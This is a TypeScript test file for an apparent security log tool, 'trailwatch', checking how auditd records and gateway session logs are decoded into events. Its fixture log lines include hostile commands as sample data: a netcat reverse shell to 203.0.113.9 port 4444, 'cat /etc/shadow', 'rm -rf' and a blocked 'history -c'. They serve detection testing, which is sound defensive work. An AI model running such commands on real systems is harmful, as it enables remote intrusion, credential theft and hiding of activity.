import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { baseEvent, getField, type TwEvent } from '../src/event.js';
import { createDecoder, ACTIONS } from '../src/rules/decoders/index.js';
import { lineToEvent } from './decoders-line.js';

describe('decoders > auditd > EXECVE', () => {
  it('quoted and hex-encoded arguments become process.args and command_line', () => {
    const ev = lineToEvent('Nov 29 10:00:01 h audisp-syslog: type=EXECVE msg=audit(1700000000.123:456): argc=3 a0="ls" a1="-la" a2=2F746D702F6120622063');
    assert.equal(createDecoder().decode(ev), true);
    assert.equal(ev.event.action, ACTIONS.execve);
    assert.deepEqual(ev.event.category, ['process']);
    assert.deepEqual(ev.event.type, ['start']);
    assert.equal(ev.event.dataset, 'auditd.log');
    assert.deepEqual(ev.process?.args, ['ls', '-la', '/tmp/a b c']);
    assert.equal(ev.process?.args_count, 3);
    assert.equal(ev.process?.command_line, 'ls -la /tmp/a b c');
    assert.equal(getField(ev, 'trailwatch.audit.serial'), '456');
  });
  it('node= prefix (audispd 2.x), kernel printk form, long arguments split in aN[i] chunks', () => {
    const a = lineToEvent('Nov 29 10:00:01 h audispd: node=web1 type=EXECVE msg=audit(1700000000.1:7): argc=2 a0="cat" a1="/etc/shadow"');
    assert.equal(createDecoder().decode(a), true);
    assert.equal(a.process?.command_line, 'cat /etc/shadow');
    const k = lineToEvent('Nov 29 10:00:01 h kernel: [  812.123456] audit: type=1309 audit(1700000000.1:8): argc=2 a0="rm" a1="-rf"');
    assert.equal(createDecoder().decode(k), true);
    assert.deepEqual(k.process?.args, ['rm', '-rf']);
    const l = lineToEvent('Nov 29 10:00:01 h audisp-syslog: type=EXECVE msg=audit(1700000000.1:9): argc=2 a0="echo" a1_len=8 a1[0]=41424344 a1[1]=45464748');
    assert.equal(createDecoder().decode(l), true);
    assert.deepEqual(l.process?.args, ['echo', 'ABCDEFGH']);
  });
  it('the SYSCALL of the same serial lends exe, pid, uid, auid and enriched names', () => {
    const d = createDecoder();
    const sc = lineToEvent('Nov 29 10:00:01 h audisp-syslog: type=SYSCALL msg=audit(1700000000.123:900): arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=1200 pid=1300 auid=1000 uid=0 gid=0 euid=0 tty=pts0 ses=3 comm="bash" exe="/usr/bin/bash" key="exec"#035ARCH=x86_64 SYSCALL=execve AUID="alice" UID="root" EUID="root"');
    const ex = lineToEvent('Nov 29 10:00:01 h audisp-syslog: type=EXECVE msg=audit(1700000000.123:900): argc=3 a0="bash" a1="-c" a2=6869737460746F7279202D63');
    assert.equal(d.decode(sc), true);
    assert.equal(sc.event.action, ACTIONS.auditSyscall);
    assert.deepEqual(sc.event.type, ['info']);
    assert.equal(d.decode(ex), true);
    assert.equal(ex.process?.executable, '/usr/bin/bash');
    assert.equal(ex.process?.pid, 1300);
    assert.equal(ex.process?.parent?.pid, 1200);
    assert.equal(ex.process?.tty?.name, 'pts0');
    assert.equal(ex.user?.id, '0');
    assert.equal(ex.user?.name, 'root');
    assert.equal(getField(ex, 'trailwatch.audit.auid'), '1000');
    assert.equal(getField(ex, 'trailwatch.audit.auid_name'), 'alice');
    assert.equal(getField(ex, 'trailwatch.audit.key'), 'exec');
    assert.deepEqual(ex.related?.user, ['root', 'alice']);
  });
  it('broken records stay undecoded', () => {
    for (const msg of [
      'type=EXECVE msg=audit(1700000000.1:9): argc=0',
      'type=EXECVE msg=audit(garbage',
      'type=PATH msg=audit(1700000000.1:9): ',
      'type=',
    ]) assert.equal(createDecoder().decode(lineToEvent(`Nov 29 10:00:01 h audisp-syslog: ${msg}`)), false, msg);
  });
});

describe('decoders > auditd > every record under auditd.data', () => {
  const one = (msg: string) => {
    const ev = lineToEvent(`Nov 29 10:00:01 h audisp-syslog: ${msg}`);
    assert.equal(createDecoder().decode(ev), true, msg);
    return ev;
  };
  it('SYSCALL: numbers and registers as written, untrusted strings decoded, the x86_64 syscall named', () => {
    const ev = one('type=SYSCALL msg=audit(1700000000.123:900): arch=c000003e syscall=59 success=yes exit=0 a0=55d5f9c0e2a0 a1=1000 items=2 ppid=1200 pid=1300 auid=1000 uid=1000 tty=pts0 ses=3 comm="bash" exe=2F746D702F6D7920746F6F6C key=(null)');
    assert.equal(ev.auditd?.record_type, 'SYSCALL');
    assert.equal(ev.auditd?.sequence, '900');
    const d = ev.auditd!.data!;
    assert.deepEqual([d.a0, d.a1, d.uid, d.auid, d.syscall, d.SYSCALL, d.comm, d.exe, d.key], ['55d5f9c0e2a0', '1000', '1000', '1000', '59', 'execve', 'bash', '/tmp/my tool', '(null)']);
    assert.equal(ev.process?.executable, '/tmp/my tool');
    const arm = one('type=SYSCALL msg=audit(1700000000.123:901): arch=c00000b7 syscall=221 success=no exit=-2 pid=5 comm="x" exe="/x"');
    assert.deepEqual([arm.auditd?.data?.SYSCALL, arm.event.outcome], ['execve', 'failure']);
    const other = one('type=SYSCALL msg=audit(1700000000.123:902): arch=40000003 syscall=11 success=yes exit=0 pid=5 comm="x" exe="/x"');
    assert.equal(other.auditd?.data?.SYSCALL, undefined, 'i386: not in the tables, left as the number');
  });
  it('EXECVE: argc and the decoded arguments', () => {
    const ev = one('type=EXECVE msg=audit(1700000000.123:456): argc=3 a0="ls" a1="-la" a2=2F746D702F6120622063');
    assert.deepEqual({ ...ev.auditd, data: { ...ev.auditd?.data } }, { record_type: 'EXECVE', sequence: '456', data: { argc: '3', a0: 'ls', a1: '-la', a2: '/tmp/a b c' } });
    const many = one(`type=EXECVE msg=audit(1700000000.123:457): argc=40 ${Array.from({ length: 40 }, (_, i) => `a${i}="f${i}"`).join(' ')}`);
    assert.equal(many.process?.args?.length, 40);
    assert.deepEqual([many.auditd?.data?.a31, many.auditd?.data?.a32], ['f31', undefined], 'a bounded number of fields for the index mapping');
  });
  it('PROCTITLE: hex argv separated by NULs, as one line; quoted when it has no blank', () => {
    const ev = one(`type=PROCTITLE msg=audit(1700000000.123:457): proctitle=${Buffer.from('nc\0-e\0/bin/sh\x00203.0.113.9\x004444').toString('hex')}`);
    assert.equal(ev.auditd?.data?.proctitle, 'nc -e /bin/sh 203.0.113.9 4444');
    assert.equal(ev.process?.title, 'nc -e /bin/sh 203.0.113.9 4444');
    assert.equal(ev.event.action, ACTIONS.auditRecord);
    assert.equal(ev.event.category, undefined, 'not a process start');
    assert.equal(one('type=PROCTITLE msg=audit(1700000000.123:458): proctitle="bash"').auditd?.data?.proctitle, 'bash');
  });
  it("CWD, PATH, and user-space records' fields inside msg='…' (USER_CMD's hex cmd); kernel type numbers named", () => {
    const cwd = one('type=CWD msg=audit(1700000000.123:459): cwd=2F686F6D652F6120622F');
    assert.deepEqual([cwd.auditd?.data?.cwd, cwd.process?.working_directory], ['/home/a b/', '/home/a b/']);
    const path = one('type=PATH msg=audit(1700000000.123:459): item=0 name="/etc/shadow" inode=1 dev=fd:01 mode=0100640 ouid=0 ogid=42 rdev=00:00 nametype=NORMAL');
    assert.deepEqual([path.auditd?.record_type, path.auditd?.data?.name, path.auditd?.data?.nametype, path.auditd?.data?.ogid], ['PATH', '/etc/shadow', 'NORMAL', '42']);
    const cmd = one(`type=USER_CMD msg=audit(1700000000.123:460): pid=77 uid=1000 auid=1000 ses=3 msg='cwd="/home/alice" cmd=${Buffer.from('ls -la /root').toString('hex').toUpperCase()} exe="/usr/bin/sudo" terminal=pts/0 res=success'`);
    const d = cmd.auditd!.data!;
    assert.deepEqual([d.pid, d.cwd, d.cmd, d.exe, d.res, cmd.event.outcome], ['77', '/home/alice', 'ls -la /root', '/usr/bin/sudo', 'success', 'success']);
    assert.deepEqual(cmd.event.type, ['info'], 'an echo of the sudo line, not a start');
    const k = lineToEvent('Nov 29 10:00:01 h kernel: [  812.1] audit: type=1302 audit(1700000000.1:8): item=0 name="/etc/passwd" nametype=NORMAL');
    assert.equal(createDecoder().decode(k), true);
    assert.equal(k.auditd?.record_type, 'PATH');
  });
});

function gw(action: string, extra: Partial<TwEvent> = {}): TwEvent {
  const ev = baseEvent('2024-11-29T10:00:00.000Z');
  ev.event.dataset = 'trailwatch.gateway';
  ev.event.action = action;
  ev.host = { name: 'gw1' };
  ev.trailwatch = { session: { id: 's1', operator: 'olga', account: 'deploy', target: 'db1.internal:22' } };
  ev.source = { ip: '10.9.0.4' };
  return Object.assign(ev, extra);
}

describe('decoders > gateway session log', () => {
  it('commands: operator, account, target, args', () => {
    const ev = gw(ACTIONS.gatewayCommand, { process: { command_line: 'sudo systemctl restart app' } });
    assert.equal(createDecoder().decode(ev), true);
    assert.deepEqual(ev.event.category, ['process']);
    assert.deepEqual(ev.event.type, ['start']);
    assert.equal(ev.user?.name, 'olga');
    assert.equal(ev.user?.target?.name, 'deploy');
    assert.equal(ev.destination?.domain, 'db1.internal');
    assert.deepEqual(ev.process?.args, ['sudo', 'systemctl', 'restart', 'app']);
    assert.deepEqual(ev.related?.user, ['olga', 'deploy']);
    assert.deepEqual(ev.related?.ip, ['10.9.0.4']);
    assert.equal(ev.trailwatch?.decoder, 'gateway');
  });
  it('login failures count as attempts; blocked commands and transfers are shaped by status', () => {
    const login = gw(ACTIONS.gatewayLogin);
    login.event.outcome = 'failure';
    createDecoder().decode(login);
    assert.deepEqual([login.event.category, login.event.type, login.event.outcome], [['authentication'], ['start'], 'failure']);
    const blocked = gw(ACTIONS.gatewayCommandBlocked, { process: { command_line: 'history -c' } });
    createDecoder().decode(blocked);
    assert.deepEqual([blocked.event.category, blocked.event.type, blocked.event.outcome], [['process', 'intrusion_detection'], ['start', 'denied'], 'failure']);
    const t = gw(ACTIONS.gatewayTransfer);
    t.trailwatch!.transfer = { status: 'completed', direction: 'upload' };
    createDecoder().decode(t);
    assert.deepEqual([t.event.category, t.event.type, t.event.outcome], [['file'], ['creation'], 'success']);
    const den = gw(ACTIONS.gatewayTransfer);
    den.trailwatch!.transfer = { status: 'denied' };
    createDecoder().decode(den);
    assert.deepEqual([den.event.type, den.event.outcome], [['denied'], 'failure']);
  });
  it('an unknown gateway action is left alone', () => {
    const ev = gw('gateway-something-new');
    assert.equal(createDecoder().decode(ev), false);
    assert.equal(ev.event.category, undefined);
  });
});
